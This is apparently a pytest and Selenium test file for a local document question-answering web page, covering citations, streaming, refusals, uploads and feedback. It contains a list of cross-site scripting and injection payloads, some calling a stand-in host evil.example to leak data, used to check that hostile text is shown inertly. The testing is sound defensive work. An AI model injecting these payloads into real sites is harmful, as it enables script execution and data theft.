"""The page in a real browser: asking, citations that open their source, uploads, refusals, and hostile texts."""

from __future__ import annotations

import threading
from dataclasses import replace
from pathlib import Path
from typing import Any, get_args

import pytest

from ragedge.contracts import Objection, Piece
from ragedge.errors import PromptTooLong
from ragedge.server.settings import KioskSettings, ServerSettings
from ragedge.server.site import load_site
from tests.browser.scenes import (
    LOG_QUOTE,
    QUESTION,
    QUOTE,
    doubtful_events,
    full_index,
    hostile_service,
    manual_events,
    refusal_events,
    service_of,
)
from tests.server.clients import serving
from tests.server.fakes import FakeIndex, FakePipeline

DONE = (
    "!['waiting', 'writing'].includes(document.getElementById('answer').dataset.outcome)"
    " && !document.getElementById('again').hidden"
)


#: A name that browsers know and never fetch.
SVG_NAMESPACE = "http://www.w3.org/2000/svg"


def squeeze(text: str) -> str:
    return " ".join(text.split())


@pytest.mark.parametrize(("path", "most"), [("/", 135_000), ("/kiosk", 125_000)])
def test_all_that_a_page_fetches_in_the_longest_language_weighs_little(
    browser: Any, tmp_path: Path, path: str, most: int
) -> None:
    site = load_site()
    index = full_index(tmp_path / "index")
    browser.emulate(languages="ar")
    with serving(service_of(index, []), ServerSettings(kiosk=KioskSettings())) as port:
        browser.open(port, path)
        browser.wait("document.documentElement.lang === 'ar'")
        base = f"http://127.0.0.1:{port}"
        fetched = {url.removeprefix(base).removeprefix("/static/") for url in browser.requested()}
    files = [{"/": "index.html", "/kiosk": "kiosk.html"}.get(name, name) for name in fetched]
    assert {"languages/ar.json", "languages/en.json", "languages.js"} <= set(files)
    assert sum(len(site[name].content) for name in files if name in site) < most


def test_no_script_of_the_page_parses_html_or_names_another_address() -> None:
    for name, file in load_site().items():
        if name.endswith(".png"):
            continue
        text = file.content.decode().replace(SVG_NAMESPACE, "")
        for word in (
            "innerHTML",
            "outerHTML",
            "insertAdjacentHTML",
            "document.write",
            "eval(",
            "Function(",
            "://",
            "style=",
        ):
            assert word not in text, (name, word)


def test_the_page_starts_with_the_cursor_in_the_question(browser: Any, tmp_path: Path) -> None:
    index = full_index(tmp_path / "index")
    with serving(service_of(index, manual_events(index))) as port:
        browser.open(port)
        browser.wait("document.querySelectorAll('.pill').length === 3")
        assert browser.run("return document.activeElement.id") == "question"
        assert browser.text("#start-line") == "3 documents with 5 pages ready to be asked."
        assert "Service log" in browser.text("#welcome")
        assert f"http://127.0.0.1:{port}/static/app.js" in browser.requested()  # the record that the fixture checks
        assert browser.complaints() == []


def test_passages_are_on_screen_before_the_answer_and_the_answer_streams(browser: Any, tmp_path: Path) -> None:
    index = full_index(tmp_path / "index")
    events = manual_events(index)
    first, last = threading.Event(), threading.Event()
    with serving(service_of(index, [events[0], first, *events[1:6], last, *events[6:]])) as port:
        browser.open(port)
        browser.ask(QUESTION)
        browser.wait("document.querySelectorAll('.passage').length === 3")
        assert browser.text("#answer-text") == ""
        assert browser.text("#outcome") == "Reading the passages"
        assert "page 2 (printed iii) › 3 Cylinder head" in browser.text(".passage .where")
        marks = browser.run("return [...document.querySelectorAll('.passage mark')].map((m) => m.textContent)")
        assert "bolts" in marks and "42" not in marks and "the" not in marks
        assert squeeze(browser.text(".passage .quote")) == squeeze(QUOTE)
        assert browser.count(".passage .quote") == 2
        first.set()
        browser.wait("document.getElementById('answer-text').textContent === 'Tighten the ten head bolts'")
        assert not browser.run("return document.getElementById('stop-button').hidden")
        assert browser.text("#outcome") == "Answering"
        last.set()
        browser.wait(DONE)
    assert browser.text("#outcome") == "Answered"
    citations = browser.run("return [...document.querySelectorAll('#answer-text .citation')].map((c) => c.textContent)")
    assert citations == ["1", "2"]
    assert browser.text("#answer-text .unsupported") == "Most mechanics add a drop of thread lock."
    assert browser.run("return !document.getElementById('legend').hidden")
    # The wrench before the second mark is one character to the service and two to JavaScript.
    assert "14 March \U0001f527.2 Most" in browser.text("#answer-text")
    assert browser.text("#engine") == "Written by the language model granite-1b.gguf"
    assert (
        browser.text("#timings")
        == "passages in 22 ms · first word after 812 ms · all in 4.2 s · 20.0 tokens per second · energy not measurable"
    )
    assert browser.text("#status") == "Answered. 2 sources."
    # By now the evidence is read by meaning, not by words alone: the marks follow it.
    assert browser.run(
        "return [...document.querySelectorAll('.passage .quote')].map((q) => q.textContent.slice(0, 12))"
    ) == [
        "14 March: he",
        "Set the clea",
    ]
    assert browser.complaints() == []


def test_an_unsupported_number_is_struck_and_each_unsupported_sentence_says_why(browser: Any, tmp_path: Path) -> None:
    index = full_index(tmp_path / "index")
    with serving(service_of(index, doubtful_events(index))) as port:
        browser.open(port)
        browser.ask(QUESTION)
        browser.wait(DONE)
        struck = browser.run("return [...document.querySelectorAll('.unconfirmed')].map((e) => e.textContent)")
        assert struck == ["[unconfirmed: 90°]", "[unconfirmed: 500 km]"]
        styles = "[...document.querySelectorAll('.unconfirmed')].map((e) => getComputedStyle(e).textDecorationLine)"
        assert browser.run(f"return {styles}") == ["line-through", "line-through"]
        whys = browser.run("return [...document.querySelectorAll('.why')].map((e) => e.textContent)")
        assert whys == ["no source has this number or unit", "no source says this"]
        assert "outwards.1 Then add a last turn of [unconfirmed: 90°] after" in browser.text("#answer-text")
        assert browser.text(".sources .support").strip() == "nearly word for word"
        assert browser.run("return !document.getElementById('legend').hidden")
        assert browser.complaints() == []


def test_an_answer_without_any_support_is_not_called_answered(browser: Any, tmp_path: Path) -> None:
    index = full_index(tmp_path / "index")
    *before, answer = doubtful_events(index)
    none = replace(answer, citations=(), text=answer.text[79:], unsupported=(replace(answer.unsupported[1], start=0),))  # type: ignore[type-var, attr-defined]
    with serving(service_of(index, [*before, none])) as port:
        browser.open(port)
        browser.ask(QUESTION)
        browser.wait(DONE)
        assert browser.text("#outcome") == "Not supported by the documents"
        assert browser.count("#answer-text .citation") == 0


def test_the_page_has_words_for_every_reason_of_the_service(browser: Any, tmp_path: Path) -> None:
    index = full_index(tmp_path / "index")
    with serving(service_of(index, [])) as port:
        browser.open(port)
        known = browser.run("return import('/static/answer.js').then((module) => Object.keys(module.OBJECTIONS))")
    assert set(known) == set(get_args(Objection))


def test_a_citation_opens_the_pdf_page_as_a_picture_with_the_words_marked(browser: Any, tmp_path: Path) -> None:
    index = full_index(tmp_path / "index")
    with serving(service_of(index, manual_events(index))) as port:
        browser.open(port)
        browser.ask(QUESTION)
        browser.wait(DONE)
        browser.click("#answer-text .citation")
        browser.wait("document.querySelector('.page-picture')?.naturalWidth > 0")
        assert browser.run("return document.getElementById('source').open")
        assert browser.text("#source-title") == "Generator G7: workshop manual"
        assert browser.text("#source-page").startswith("page 2 (printed iii) of 3")
        assert browser.run("return document.getElementById('source-body').dataset.marks") == "3"
        assert browser.run(YELLOW) > 2_000
        assert squeeze(QUOTE) in squeeze(browser.find(".page-picture").get_attribute("alt"))

        browser.click("#source-text-mode")
        browser.wait("document.getElementById('source-mark')")
        assert browser.text("#source-mark") == QUOTE

        browser.click("#source-next")
        browser.wait("document.getElementById('source-page').textContent.startsWith('page 3')")
        assert browser.run("return document.getElementById('source-next').disabled")
        assert browser.count("#source-mark") == 0
        browser.click("#source-back")
        browser.wait("document.getElementById('source-mark')")

        browser.click("#source-close")
        assert not browser.run("return document.getElementById('source').open")
        assert browser.run("return document.activeElement.classList.contains('citation')")
    assert browser.complaints() == []


YELLOW = """
  const image = document.querySelector('.page-picture');
  const canvas = new OffscreenCanvas(image.naturalWidth, image.naturalHeight);
  const context = canvas.getContext('2d');
  context.drawImage(image, 0, 0);
  const data = context.getImageData(0, 0, canvas.width, canvas.height).data;
  let count = 0;
  for (let i = 0; i < data.length; i += 4) if (data[i] > 250 && data[i + 1] > 200 && data[i + 2] < 120) count += 1;
  return count;
"""


def test_a_citation_into_text_is_marked_and_scrolled_into_view(browser: Any, tmp_path: Path) -> None:
    index = full_index(tmp_path / "index")
    with serving(service_of(index, manual_events(index))) as port:
        browser.open(port)
        browser.ask(QUESTION)
        browser.wait(DONE)
        browser.run("document.querySelectorAll('#answer-text .citation')[1].click()")
        browser.wait("document.getElementById('source-mark')")
        assert browser.text("#source-mark") == LOG_QUOTE
        assert browser.wait(
            "(() => { const m = document.getElementById('source-mark').getBoundingClientRect(),"
            " b = document.getElementById('source-body').getBoundingClientRect();"
            " return m.top >= b.top && m.bottom <= b.bottom; })()"
        )
        assert browser.run("return document.getElementById('source-modes').hidden")


def test_the_source_keeps_the_keyboard_inside_and_closes_with_escape(browser: Any, tmp_path: Path) -> None:
    from selenium.webdriver.common.action_chains import ActionChains
    from selenium.webdriver.common.keys import Keys

    index = full_index(tmp_path / "index")
    with serving(service_of(index, manual_events(index))) as port:
        browser.open(port)
        browser.ask(QUESTION)
        browser.wait(DONE)
        browser.find("#answer-text .citation").send_keys(Keys.ENTER)
        browser.wait("document.querySelector('.page-picture')?.naturalWidth > 0")
        for _ in range(15):
            ActionChains(browser.driver).send_keys(Keys.TAB).perform()
            inside = "const a = document.activeElement; return a === document.body || a.closest('dialog') !== null"
            assert browser.run(inside)
        ActionChains(browser.driver).send_keys(Keys.ESCAPE).perform()
        browser.wait("!document.getElementById('source').open")


def test_stop_ends_the_question_and_keeps_what_came(browser: Any, tmp_path: Path) -> None:
    index = full_index(tmp_path / "index")
    events = manual_events(index)
    service = service_of(index, [*events[:6], threading.Event()])
    pipeline = service.pipeline
    assert isinstance(pipeline, FakePipeline)
    with serving(service) as port:
        browser.open(port)
        browser.ask(QUESTION)
        browser.wait("document.getElementById('answer-text').textContent.endsWith('bolts')")
        browser.click("#stop-button")
        assert pipeline.closed.acquire(timeout=10) and pipeline.was_cancelled
        browser.wait(DONE)
        assert browser.text("#outcome") == "Stopped"
        assert browser.text("#answer-text") == "Tighten the ten head bolts"
        pipeline.events = list(events)
        browser.click("#again")
        browser.wait("document.getElementById('outcome').textContent === 'Answered'")
        assert browser.count(".passage") == 3


def test_a_refusal_looks_different_and_offers_the_closest_passages(browser: Any, tmp_path: Path) -> None:
    index = full_index(tmp_path / "index")
    with serving(service_of(index, refusal_events(index))) as port:
        browser.open(port)
        browser.ask("Who won the cup?")
        browser.wait(DONE)
        assert browser.text("#outcome") == "Not in these documents"
        assert browser.text("#passages-heading") == "Closest passages"
        assert browser.count(".passage") == 3
        assert browser.count("#answer-text .citation") == 0
        color = "return getComputedStyle(document.getElementById('answer')).backgroundColor"
        refused = browser.run(color)
        assert refused != browser.run("return getComputedStyle(document.querySelector('.passage')).backgroundColor")


def test_failures_show_message_and_hint_and_can_be_tried_again(browser: Any, tmp_path: Path) -> None:
    index = full_index(tmp_path / "index")
    events = manual_events(index)
    failing: list[object] = [events[0], Piece("half"), PromptTooLong("the passages do not fit", "ask more briefly")]
    service = service_of(index, failing)
    with serving(service) as port:
        browser.open(port)
        browser.ask("why?")
        browser.wait("!document.getElementById('problem').hidden")
        assert browser.text("#problem-message") == "the passages do not fit"
        assert browser.text("#problem-hint") == "Ask more briefly"
        assert browser.count(".passage") == 3  # what was found stays to be read
        assert isinstance(service.pipeline, FakePipeline)
        service.pipeline.events = events
        browser.click("#problem-again")
        browser.wait(DONE)
        assert browser.text("#outcome") == "Answered"
        assert browser.run("return document.getElementById('problem').hidden")
    browser.ask("is anyone there?")  # the service is away now
    browser.wait("!document.getElementById('problem').hidden")
    assert browser.text("#problem-message") == "The service cannot be reached."


def test_an_empty_index_leads_to_files_and_then_to_the_question(browser: Any, tmp_path: Path) -> None:
    (tmp_path / "index").mkdir()
    index = FakeIndex(tmp_path / "index")
    good, locked, odd = tmp_path / "notes.txt", tmp_path / "sealed.pdf", tmp_path / "tool.exe"
    good.write_text("one\ftwo", encoding="utf-8")
    locked.write_bytes(b"locked")
    odd.write_bytes(b"MZ")
    with serving(service_of(index, [])) as port:
        browser.open(port)
        browser.wait("!document.getElementById('welcome').hidden")
        assert browser.text("#welcome h2") == "Add your documents first"
        browser.find("#welcome input[type=file]").send_keys(f"{good}\n{locked}\n{odd}")
        browser.wait("document.getElementById('document-count').textContent === '1'")
        lines = browser.run(
            "return [...document.querySelectorAll('#welcome .upload-list li')].map((l) => l.textContent)"
        )
        assert lines[0] == "notes.txtAdded: 2 pages, 2 passages"
        assert "needs a password" in lines[1]
        assert "No reader takes this kind of file" in lines[2]
        browser.wait("document.activeElement.id === 'question'")
        browser.click("#nav-documents")
        browser.wait("document.querySelectorAll('#document-list .document').length === 1")
        assert "Protected by a password" in browser.text("#rejected")
    assert index.counts().documents == 1


def test_dropped_files_are_added(browser: Any, tmp_path: Path) -> None:
    index = full_index(tmp_path / "index")
    drop = """
      const data = new DataTransfer();
      data.items.add(new File(['dropped words'], 'dropped.txt'));
      document.querySelector('#documents-upload .drop-zone').dispatchEvent(
        new DragEvent('drop', {dataTransfer: data, bubbles: true, cancelable: true}));
    """
    with serving(service_of(index, [])) as port:
        browser.open(port, "/#documents")
        browser.wait("document.querySelector('#documents-upload .drop-zone')")
        browser.run(drop)
        browser.wait("document.querySelector('#documents-upload .done')")
    assert "dropped.txt" in index.files()


def test_documents_show_problems_and_are_removed_only_after_a_question(browser: Any, tmp_path: Path) -> None:
    index = full_index(tmp_path / "index")
    buttons = "[...document.querySelectorAll('#document-list .document .danger')]"
    remove = f"{buttons}.find((button) => button.ariaLabel.includes('Service log'))"
    with serving(service_of(index, [])) as port:
        browser.open(port, "/#documents")
        browser.wait("document.querySelectorAll('#document-list .document').length === 3")
        assert "Page 1: No text in it. the page is a picture and OCR is off" in browser.text("#document-list")
        browser.wait(remove).click()
        browser.click("#confirm button[value=no]")
        assert "log.txt" in index.files()
        browser.wait(remove).click()
        browser.click("#confirm button[value=yes]")
        browser.wait("document.querySelectorAll('#document-list .document').length === 2")
        browser.wait("document.getElementById('document-count').textContent === '2'")
    assert "log.txt" not in index.files()


def test_a_service_without_write_access_offers_no_changes(browser: Any, tmp_path: Path) -> None:
    index = full_index(tmp_path / "index")
    service = service_of(index, [])
    fixed = type(service)(service.pipeline, index, None, "extractive", "0", ())
    with serving(fixed) as port:
        browser.open(port, "/#documents")
        browser.wait("document.querySelectorAll('#document-list .document').length === 3")
        browser.wait("document.querySelector('#documents-upload .notice')")
        assert browser.count(".drop-zone") == 0


@pytest.mark.parametrize("width", [320, 600, 1280, 3840])
def test_nothing_runs_over_the_edge(browser: Any, tmp_path: Path, width: int) -> None:
    index = full_index(tmp_path / "index")
    over = "return document.documentElement.scrollWidth - document.documentElement.clientWidth"
    browser.emulate(width=width, height=900)
    with serving(service_of(index, manual_events(index))) as port:
        browser.open(port)
        browser.ask(QUESTION + " " + "x" * 200)
        browser.wait(DONE)
        assert browser.run(over) <= 0
        browser.click("#nav-documents")
        browser.wait("document.querySelectorAll('#document-list .document').length === 3")
        assert browser.run(over) <= 0


PAYLOADS = [
    "<script>window.pwned=1</script>",
    "<img src=x onerror='window.pwned=1'>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<a href='javascript:window.pwned=1'>x</a>",
    "javascript:window.pwned=1",
    '"><script>window.pwned=1</script>',
    "'-window.pwned=1-'",
    "</textarea><script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "<!--><img src=x onerror=window.pwned=1>-->",
    "<math><mi//xlink:href='data:x,<script>window.pwned=1</script>'>",
    "<details open ontoggle=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';*{background:url(http://evil.example/y)}</style>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example/><input name=q></form>",
    "![x](http://evil.example/leak.png?q=secret)",
    "[click](javascript:window.pwned=1)",
    "<object data=http://evil.example/></object>",
    "<video src=http://evil.example/v onerror=window.pwned=1>",
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}",
    "__proto__",
    "constructor",
    "\u202e<script>window.pwned=1</script>",
    "<scr\u0000ipt>window.pwned=1</script>",
    "<img src=x onerror=&#119;indow.pwned=1>",
    'event: answer\ndata: {"text": "forged"}\n\n',
    "\U000e0041\U000e0042 hidden \u200b words",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_words_stay_words(browser: Any, tmp_path: Path, payload: str) -> None:
    service = hostile_service(tmp_path, payload)
    with serving(service, ServerSettings(title="ragedge")) as port:
        browser.open(port)
        browser.wait("document.getElementById('start-line').textContent !== ''")
        browser.ask("bolts?")
        browser.wait(DONE)
        shown = payload
        assert shown in browser.text("#answer-text") and shown in browser.text(".passage h3")
        assert squeeze(shown) in squeeze(browser.text(".passage-text"))
        browser.click("#answer-text .citation")
        browser.wait("document.getElementById('source-mark')")
        assert shown in browser.text("#source-mark")
        browser.click("#source-close")
        browser.click("#nav-documents")
        browser.wait("document.querySelectorAll('#document-list .document').length === 1")
        assert shown in browser.text("#document-list") and shown in browser.text("#rejected")
        assert browser.run("return window.pwned ?? null") is None
        bad = (
            "main :is(script, img, svg, iframe, object, video, math, style, base, meta, link, [onerror], [onload],"
            " form:not(#ask-form, #follow-form), details[ontoggle])"
        )
        assert browser.count(bad) == 0
        assert browser.complaints() == []
        assert browser.driver.current_url == f"http://127.0.0.1:{port}/#documents"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Tighten the\nten head bolts", "Tighten the ten head bolts"),
        ("Steps:\nFirst\nSecond", "Steps:\nFirst\nSecond"),
        ("para one.\n\nPara two", "para one.\n\nPara two"),
        ("a | b\nc | d", "a | b\nc | d"),
        ("a tab\t\nx", "a tab\t\nx"),
        ("\U0001f527\nx", "\U0001f527 x"),
    ],
)  # fmt: skip
def test_lines_are_joined_where_a_sentence_goes_on(browser: Any, tmp_path: Path, text: str, shown: str) -> None:
    index = full_index(tmp_path / "index")
    with serving(service_of(index, [])) as port:
        browser.open(port)
        script = """
          const done = arguments[arguments.length - 1];
          import('/static/text.js').then((text) => done(text.reflow(arguments[0])));
        """
        got = browser.driver.execute_async_script(script, text)
    assert got == shown
    assert len(got) == len(text)


class Listener:
    """A journal that knows every question, and keeps what was said."""

    def __init__(self) -> None:
        self.said: list[tuple[str, str]] = []

    def feedback(self, question_id: str, verdict: str, reason: str = "") -> bool:
        assert question_id
        self.said.append((verdict, reason))
        return True


class NamedPipeline(FakePipeline):
    """Takes the name that a question gets where a journal is kept."""

    def stream(self, question, is_cancelled=lambda: False, *, question_id="", client=""):  # type: ignore[no-untyped-def]
        return super().stream(question, is_cancelled)


def test_feedback_is_given_by_keyboard_with_a_reason(browser: Any, tmp_path: Path) -> None:
    from selenium.webdriver.common.keys import Keys

    index = full_index(tmp_path / "index")
    listener = Listener()
    service = replace(
        service_of(index, manual_events(index)), pipeline=NamedPipeline(manual_events(index)), journal=listener
    )
    with serving(service) as port:
        browser.open(port)
        browser.ask(QUESTION)
        browser.wait(DONE)
        browser.wait("!document.getElementById('feedback').hidden")
        browser.find("#feedback-down").send_keys(Keys.ENTER)
        browser.wait("document.getElementById('feedback-down').getAttribute('aria-pressed') === 'true'")
        assert browser.run("return document.activeElement.id") == "feedback-down"
        browser.find("#feedback-reason").send_keys("wrong <b>page</b>", Keys.ENTER)
        browser.wait("document.getElementById('feedback-more').hidden")
        assert browser.text("#feedback-note") == "Thank you, noted with your reason."
        assert browser.run("return document.activeElement.id") == "feedback-down"
        browser.find("#feedback-up").send_keys(Keys.SPACE)
        browser.wait("document.getElementById('feedback-up').getAttribute('aria-pressed') === 'true'")
        assert browser.run("return document.getElementById('feedback-down').getAttribute('aria-pressed')") == "false"
    assert listener.said == [("down", ""), ("down", "wrong <b>page</b>"), ("up", "")]
    assert browser.complaints() == []


def test_without_a_journal_nobody_is_asked_for_feedback(browser: Any, tmp_path: Path) -> None:
    index = full_index(tmp_path / "index")
    with serving(service_of(index, manual_events(index))) as port:
        browser.open(port)
        browser.ask(QUESTION)
        browser.wait(DONE)
        assert browser.run("return document.getElementById('feedback').hidden")


def test_a_reviewed_answer_is_shown_as_one(browser: Any, tmp_path: Path) -> None:
    index = full_index(tmp_path / "index")
    *others, answer = manual_events(index)
    reviewed = replace(answer, engine="reviewed", unsupported=(), stats=None)  # type: ignore[type-var]
    with serving(service_of(index, [*others, reviewed])) as port:
        browser.open(port)
        browser.ask(QUESTION)
        browser.wait(DONE)
        assert browser.text("#outcome") == "Reviewed answer"
        assert browser.text("#engine") == "Written and checked by people, no language model"
        assert browser.text("#status").startswith("Reviewed answer.")
        assert browser.count("#answer-text .citation") == 2
